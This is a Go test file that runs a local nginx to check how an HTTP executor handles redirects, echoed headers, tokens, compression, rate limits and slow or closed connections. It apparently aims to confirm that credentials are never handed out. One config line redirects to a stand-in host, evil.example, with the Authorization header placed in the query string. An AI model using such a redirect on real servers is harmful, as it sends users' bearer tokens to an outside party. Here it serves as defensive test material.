package httpexec

import (
	"bytes"
	"context"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"net"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/yett-broker/yett/internal/action"
)

// nginx is a server that nobody here wrote.
type nginx struct {
	dir  string
	port [3]int // plain, TLS with HTTP/2, TLS with HTTP/1.1 only
	cert *x509.Certificate
}

const nginxConf = `
daemon off; master_process off; worker_processes 1; pid %[1]s/pid; error_log %[1]s/error.log;
events { worker_connections 64; }
http {
	access_log %[1]s/access.log combined;
	client_body_temp_path %[1]s; proxy_temp_path %[1]s; fastcgi_temp_path %[1]s; uwsgi_temp_path %[1]s; scgi_temp_path %[1]s;
	limit_req_zone $uri zone=one:64k rate=1r/m;
	server {
		listen 127.0.0.1:%[2]d;
		listen 127.0.0.1:%[3]d ssl http2;
		listen 127.0.0.1:%[4]d ssl;
		ssl_certificate %[1]s/cert.pem; ssl_certificate_key %[1]s/key.pem; ssl_protocols TLSv1.2 TLSv1.3;
		root %[1]s/www; default_type text/plain; client_max_body_size 64k;
		large_client_header_buffers 4 64k;
		location /gz/ { gzip on; gzip_types text/plain; gzip_min_length 1; gzip_http_version 1.0; gzip_proxied any; }
		location = /none { return 204; }
		location = /away { return 307 "http://evil.example/?token=$http_authorization"; }
		location = /echo { return 200 "before $http_authorization after\n"; }
		location = /seen { return 200 "$request_method $host $request_uri $http_x_own $content_length $server_protocol\n"; }
		location = /heads { add_header X-Big "%[5]s"; return 200 "big"; }
		location = /limited { limit_req zone=one; limit_req_status 429; error_page 429 @wait; try_files /file =404; }
		location @wait { add_header Retry-After 17 always; return 429 "later"; }
		location = /cookie { add_header Set-Cookie "sid=s3ss10n"; add_header WWW-Authenticate s3ss10n; return 200 "c"; }
		location = /token { default_type application/json; return 200 '{"access_token":"s3ss10n-of-its-own","token_type":"bearer"}'; }
		location = /rude { return 444; }
		location = /slow { limit_rate 64k; try_files /file =404; }
	}
}
`

// freePorts finds ports that nobody listens on just now.
func freePorts(t *testing.T, n int) []int {
	t.Helper()
	var ports []int
	for range n {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer l.Close()
		ports = append(ports, l.Addr().(*net.TCPAddr).Port)
	}
	return ports
}

func startNginx(t *testing.T) *nginx {
	t.Helper()
	program, err := exec.LookPath("nginx")
	if err != nil {
		if program, err = exec.LookPath("/usr/sbin/nginx"); err != nil {
			t.Fatal("nginx is missing: scripts/need nginx:nginx-light")
		}
	}
	n := &nginx{dir: t.TempDir()}
	for _, d := range []string{"www", "www/gz"} {
		if err := os.Mkdir(filepath.Join(n.dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	ts := httptest.NewTLSServer(nil)
	ts.Close()
	n.cert = ts.Certificate()
	key, err := x509.MarshalPKCS8PrivateKey(ts.TLS.Certificates[0].PrivateKey)
	if err != nil {
		t.Fatal(err)
	}
	ports := freePorts(t, 3)
	copy(n.port[:], ports)
	for name, content := range map[string][]byte{
		"cert.pem": []byte(pemOf(n.cert)),
		"key.pem":  pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: key}),
		"www/file": bytes.Repeat([]byte("0123456789abcdef"), 1<<16), // 1 MiB
		"www/gz/a": bytes.Repeat([]byte("squeeze "), 100_000),
		"conf":     fmt.Appendf(nil, nginxConf, n.dir, ports[0], ports[1], ports[2], strings.Repeat("h", 3000)),
	} {
		if err := os.WriteFile(filepath.Join(n.dir, name), content, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	c := exec.Command(program, "-p", n.dir, "-c", filepath.Join(n.dir, "conf"), "-e", filepath.Join(n.dir, "error.log"))
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		c.Process.Kill()
		c.Wait()
		if t.Failed() {
			log, _ := os.ReadFile(filepath.Join(n.dir, "error.log"))
			t.Logf("nginx: %s", log)
		}
	})
	for until := time.Now().Add(10 * time.Second); ; {
		if conn, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", n.port[2])); err == nil {
			conn.Close()
			return n
		}
		if time.Now().After(until) {
			t.Fatal("nginx does not listen")
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// requests are the lines of the log about a path: nginx writes one for each
// request that it saw to its end.
func (n *nginx) requests(t *testing.T, what string) int {
	t.Helper()
	log, err := os.ReadFile(filepath.Join(n.dir, "access.log"))
	if err != nil {
		t.Fatal(err)
	}
	return strings.Count(string(log), what)
}

// What nginx answers, over plain HTTP, HTTP/2 and HTTP/1.1 in TLS.
func TestNginx(t *testing.T) {
	n := startNginx(t)
	file := bytes.Repeat([]byte("0123456789abcdef"), 1<<16)
	for i, name := range []string{"plain", "HTTP/2", "HTTP/1.1 in TLS"} {
		target := Target{Scheme: "https", Host: "127.0.0.1", Port: n.port[i], Private: true, Timeout: 15 * time.Second, Session: "s", Way: Way{CA: pemOf(n.cert)}}
		if i == 0 {
			target.Scheme, target.Way = "http", Way{}
		}
		proto := []string{"HTTP/1.1", "HTTP/2.0", "HTTP/1.1"}[i]
		e := newExecutor(t)
		try := func(method, path string, body []byte, headers ...action.Header) *Result {
			t.Helper()
			res, err := e.Do(context.Background(), target, bearer, action.HTTP{Method: method, Path: path, Body: body, Headers: headers})
			if err != nil {
				t.Errorf("%s: %s %s: %v", name, method, path, err)
				return &Result{}
			}
			if text := fmt.Sprint(res.Headers) + string(res.Body[:min(len(res.Body), 4000)]); strings.Contains(text, secret) || strings.Contains(text, "s3ss10n") {
				t.Errorf("%s: %s %s hands out a credential: %.300s", name, method, path, text)
			}
			return res
		}
		if r := try("GET", "/file", nil); r.Status != 200 || !bytes.Equal(r.Body, file) || r.Truncated {
			t.Errorf("%s: a file: %d, %d bytes", name, r.Status, len(r.Body))
		} else if again := try("GET", "/file", nil, action.Header{Name: "If-None-Match", Value: header(r, "Etag")[0]}); again.Status != 304 || len(again.Body) != 0 {
			t.Errorf("%s: the same again: %d, %d bytes", name, again.Status, len(again.Body))
		}
		if r := try("GET", "/gz/a", nil); r.Status != 200 || string(r.Body) != strings.Repeat("squeeze ", 100_000) || len(header(r, "Content-Encoding")) != 0 {
			t.Errorf("%s: gzip: %d, %d bytes, %v", name, r.Status, len(r.Body), r.Headers)
		}
		if r := try("HEAD", "/file", nil); r.Status != 200 || len(r.Body) != 0 || header(r, "Content-Length")[0] != "1048576" {
			t.Errorf("%s: HEAD: %+v", name, r)
		}
		if r := try("GET", "/none", nil); r.Status != 204 || len(r.Body) != 0 || r.Truncated {
			t.Errorf("%s: 204: %+v", name, r)
		}
		if r := try("GET", "/away", nil); r.Status != 307 || r.Redacted < 1 || header(r, "Location")[0] != "http://evil.example/?token=Bearer "+mark {
			t.Errorf("%s: H01, a redirect: %+v", name, r)
		}
		if r := try("GET", "/echo", nil); string(r.Body) != "before Bearer "+mark+" after\n" || r.Redacted != 1 {
			t.Errorf("%s: H08, an echo: %q", name, r.Body)
		}
		if r := try("POST", "/seen", []byte("body"), action.Header{Name: "X-Own", Value: strings.Repeat("o", 20_000)}); string(r.Body) != "POST 127.0.0.1 /seen "+strings.Repeat("o", 20_000)+" 4 "+proto+"\n" {
			t.Errorf("%s: %d %.200q", name, r.Status, r.Body)
		}
		if r := try("GET", "/heads", nil); r.Status != 200 || len(header(r, "X-Big")[0]) != 3000 {
			t.Errorf("%s: large headers: %d", name, r.Status)
		}
		if r := try("GET", "/cookie", nil); r.Status != 200 || string(r.Body) != "c" {
			t.Errorf("%s: a cookie: %+v", name, r)
		}
		if r := try("GET", "/token", nil); r.Withheld == "" || len(r.Body) != 0 {
			t.Errorf("%s: H09, a token: %+v", name, r)
		}
		// Answered before it was read: the body is too long for nginx.
		if r := try("POST", "/file", make([]byte, 1<<20)); r.Status != 413 {
			t.Errorf("%s: early: %+v", name, r)
		}
		// nginx closes without a word.
		err := refused(t, e, target, bearer, action.HTTP{Method: "POST", Path: "/rude", Headers: []action.Header{{Name: "Idempotency-Key", Value: "k"}}})
		if !err.MaybeSent {
			t.Errorf("%s: closed without an answer: %v", name, err)
		}
		if i == 0 {
			try("GET", "/limited", nil)
		}
		if r := try("GET", "/limited", nil); r.Status != 429 || header(r, "Retry-After")[0] != "17" || string(r.Body) != "later" {
			t.Errorf("%s: too many: %+v", name, r)
		}
		target.Timeout = 400 * time.Millisecond
		if r := try("GET", "/slow", nil); r.Status != 200 || !r.Truncated || r.Partial == "" || len(r.Body) == 0 || !bytes.HasPrefix(file, r.Body) {
			t.Errorf("%s: slow: %d bytes, %q", name, len(r.Body), r.Partial)
		}
	}
	for what, want := range map[string]int{"POST /rude": 3, "POST /seen": 3, "GET /echo": 3, "POST /file": 3} {
		if got := n.requests(t, what); got != want {
			t.Errorf("%s: %d arrived for %d actions", what, got, want)
		}
	}
}
